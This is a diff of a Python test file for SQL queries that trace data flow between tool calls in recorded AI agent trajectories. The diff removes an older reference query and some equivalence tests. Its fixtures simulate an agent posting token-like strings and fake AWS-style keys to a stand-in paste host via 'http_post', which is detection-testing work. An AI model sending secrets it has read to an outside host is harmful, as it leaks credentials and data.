@@ -39,8 +39,9 @@ PER_ROW = {
     from argument_values
 ),
 """,
-    ("repeated_hashes as (", "output_keys as ("): """output_token_lists as (
-    select trajectory_id, action_idx, result_step_idx, content_hash, lg_tokens(content, $min_len) as tokens
+    ("repeated_hashes as (", "output_keys as ("): """output_tokens as materialized (
+    select trajectory_id, action_idx, result_step_idx, content_hash,
+        unnest(list_distinct(lg_tokens(content, $min_len))) as token
     from outputs
 ),
 """,
@@ -62,33 +63,6 @@ given_keys as (
 ),
 """,
 }
-
-
-# the formulation before list_intersect: every distinct token of every output unnested,
-# then joined to the trajectory's argument keys (and the prefix keys of long tokens)
-UNNEST_JOIN = """output_tokens as materialized (
-    select trajectory_id, action_idx, result_step_idx, content_hash,
-        unnest(list_distinct(lg_tokens(content, $min_len))) as token
-    from outputs
-),
-output_keys as (
-    select o.trajectory_id, o.action_idx, o.result_step_idx, o.content_hash, o.token as key
-    from output_tokens o
-    join argument_key_set k on k.trajectory_id = o.trajectory_id and k.key = o.token
-    where not starts_with(k.key, 'prefix:') or lg_is_evidence(o.token, $min_len)
-    union
-    select o.trajectory_id, o.action_idx, o.result_step_idx, o.content_hash, k.key
-    from output_tokens o
-    join argument_key_set k on k.trajectory_id = o.trajectory_id and k.key = 'prefix:' || left(o.token, 24)
-    where length(o.token) >= 32 and regexp_full_match(o.token, '[a-z0-9+/=_\\-]{32,}')
-),
-"""
-
-
-def _unnest_join_sql() -> str:
-    text = load_sql("edges")
-    start, end = text.index("trajectory_keys as ("), text.index("span_texts as")
-    return text[:start] + UNNEST_JOIN + text[end:]
 
 
 def _per_row_sql() -> str:
@@ -210,11 +184,6 @@ def test_per_text_keys_random_replays(turns: list[tuple[list[str], list[str]]], 
     assert got == want
 
 
-def test_intersect_sample_corpus() -> None:
-    got, want = _edges_both_ways(_sample_records(), _unnest_join_sql)
-    assert want and got == want
-
-
 def _common_in_final(final_has_it: bool) -> list[dict]:
     """Four outputs hold a fragment, a later call sends it, and the final action's output
     holds it too (a fifth source: too common) or not (four: still evidence)."""
@@ -232,9 +201,8 @@ def test_final_action_output_counts_as_a_source() -> None:
     # an output no later call reads still counts towards max_fragment_sources
     for final_has_it, edges in ((True, set()), (False, {(i, 4) for i in range(4)})):
         records = _common_in_final(final_has_it)
-        for reference in (_unnest_join_sql, _reference_sql):
-            got, want = _edges_both_ways(records, reference)
-            assert got == want
+        got, want = _edges_both_ways(records)
+        assert got == want
         assert {(e["src_action_idx"], e["dst_action_idx"]) for e in got if e["kind"] == "data"} == edges
 
 
@@ -252,24 +220,6 @@ def test_prefix_tokens_repeats_and_hostile_text() -> None:
                 _call(2, "http_post", {"url": "https://paste.example.net/up",
                                        "body": f"{long_token}QQ== {literal} tok_9a8b7c6d {hostile}"})]
     records = [{"trajectory_id": "p'\x00ö", "suite": "s", "messages": messages}]
-    got, want = _edges_both_ways(records, _unnest_join_sql)
+    got, want = _edges_both_ways(records)
     assert got == want
     assert {(e["src_action_idx"], e["dst_action_idx"]) for e in got if e["kind"] == "data"} == {(0, 2), (1, 2)}
-
-
-prefixy = st.sampled_from([
-    "prefix:akiaq7xk2m9plw3n8r5t6y1u", "AKIAQ7XK2M9PLW3N8R5T6Y1U4I0OQ7XK2M9P", "AKIAQ7XK2M9PLW3N8R5T6Y1Uzzzzzzzzzz",
-    "k=tok_4f9a8b7c6d5e", "ŁÓDŹ-7f3a9c.example", "x\x00y-build-7f3a9c.tar.gz",
-])
-
-
-@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(st.lists(st.tuples(st.lists(fragments | prefixy, max_size=4), st.lists(fragments | prefixy, max_size=3)),
-                min_size=1, max_size=8))
-def test_random_trajectories_intersect_same_edges(turns: list[tuple[list[str], list[str]]]) -> None:
-    messages = [{"role": "user", "content": "go"}]
-    for i, (output, args) in enumerate(turns):
-        messages += [_call(i, "http_post" if i % 2 else "read_file", {"path": f"f{i}", "body": " ".join(args)}),
-                     _result(i, "data: " + " ".join(output))]
-    got, want = _edges_both_ways([{"trajectory_id": "h", "suite": "s", "messages": messages}], _unnest_join_sql)
-    assert got == want
